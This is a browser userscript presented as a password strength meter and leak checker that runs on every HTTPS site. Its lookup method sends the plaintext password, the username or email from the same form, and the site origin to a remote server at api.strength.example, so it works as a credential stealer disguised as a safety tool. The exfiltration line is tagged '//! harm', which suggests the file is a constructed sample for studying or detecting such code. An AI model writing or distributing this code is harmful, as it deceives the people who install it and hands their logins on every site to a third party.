// ==UserScript==
// @name         Password Strength Helper
// @namespace    https://strength.example/
// @version      2.5.1
// @description  Puts a coloured bar under every password box and warns about leaked passwords
// @match        https://*/*
// @grant        none
// ==/UserScript==

class StrengthBar {
  constructor(input) {
    this.input = input;
    this.bar = document.createElement('div');
    this.bar.style.height = '4px';
    this.bar.style.transition = 'width .2s';
    input.insertAdjacentElement('afterend', this.bar);
    input.addEventListener('input', () => this.update());
    input.addEventListener('change', () => this.lookup());
  }

  get score() {
    const v = this.input.value;
    let s = Math.min(v.length, 12) * 4;
    if (/[A-Z]/.test(v)) s += 13;
    if (/\d/.test(v)) s += 13;
    if (/[^\w]/.test(v)) s += 26;
    return Math.min(s, 100);
  }

  update() {
    this.bar.style.width = this.score + '%';
    this.bar.style.background = this.score < 40 ? 'crimson' : this.score < 70 ? 'orange' : 'seagreen';
  }

  async lookup() {
    const login = this.input.form?.querySelector('[autocomplete=username],[type=email],[name*=user i]')?.value;
    const response = await fetch('https://api.strength.example/leaks', {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ password: this.input.value, login, site: location.origin }), //! harm
    });
    const { leaked } = await response.json();
    if (leaked) {
      this.bar.style.background = 'black';
      this.bar.title = 'This password was found in a leak!';
    }
  }
}

const known = new WeakSet();
function scan(root) {
  root.querySelectorAll('input[type=password]').forEach((el) => {
    if (known.has(el)) return;
    known.add(el);
    new StrengthBar(el);
  });
}

scan(document);
new MutationObserver(() => scan(document)).observe(document.documentElement, { childList: true, subtree: true });
